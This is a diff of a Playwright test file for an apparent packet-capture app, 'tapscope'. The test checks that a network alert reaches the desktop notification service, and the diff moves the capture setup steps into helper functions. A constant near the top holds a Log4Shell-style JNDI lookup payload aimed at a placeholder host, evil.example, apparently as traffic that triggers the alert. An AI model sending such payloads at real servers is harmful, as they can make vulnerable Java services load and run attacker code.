@@ -7,10 +7,10 @@ import type { AddressInfo } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { expect, test } from '@playwright/test'
+import { canCapture, chooseLoopback, start, whyNoCapture } from './capturing.ts'
 import { closeLeftovers, openFace, statusNumber } from './faces.ts'
 
 const LOOKUP = '$' + '{jndi:ldap://evil.example/a}'
-const canCapture = process.getuid?.() === 0 && Boolean(process.env.TAPSCOPE_TAPCAP)
 
 /** A session's bus with a notification service, which prints what it shows. */
 class Desktop {
@@ -58,7 +58,7 @@ class Desktop {
 
 test.describe('electron', () => {
   test.skip(!process.env.TAPSCOPE_ELECTRON, process.env.TAPSCOPE_SKIP_REASON_ELECTRON ?? 'no Electron')
-  test.skip(!canCapture, process.env.TAPSCOPE_SKIP_REASON_TAPCAP ?? 'capturing needs root')
+  test.skip(!canCapture, whyNoCapture)
   test.skip(!process.env.TAPSCOPE_DUNST, process.env.TAPSCOPE_SKIP_REASON_DUNST ?? 'no notification service')
   const desktop = new Desktop()
   test.beforeAll(() => desktop.start())
@@ -67,11 +67,8 @@ test.describe('electron', () => {
 
   test('an alert that comes while nobody looks is told to the desktop, and a click on it shows it', async () => {
     const { page, lookAway, close } = await openFace('electron')
-    await page.getByTestId('rail-capture').click()
-    await page.getByTestId('capture-filter').fill('tcp')
-    await page.getByTestId('interface-lo').click()
-    await page.getByTestId('capture-start-selected').click()
-    await expect(page.getByTestId('status-capture')).toContainText('Capturing')
+    await chooseLoopback(page, 'tcp')
+    await start(page)
     await page.getByTestId('rail-frames').click()
     await lookAway?.()
     const server = createServer((_request, response) => response.end('ok'))
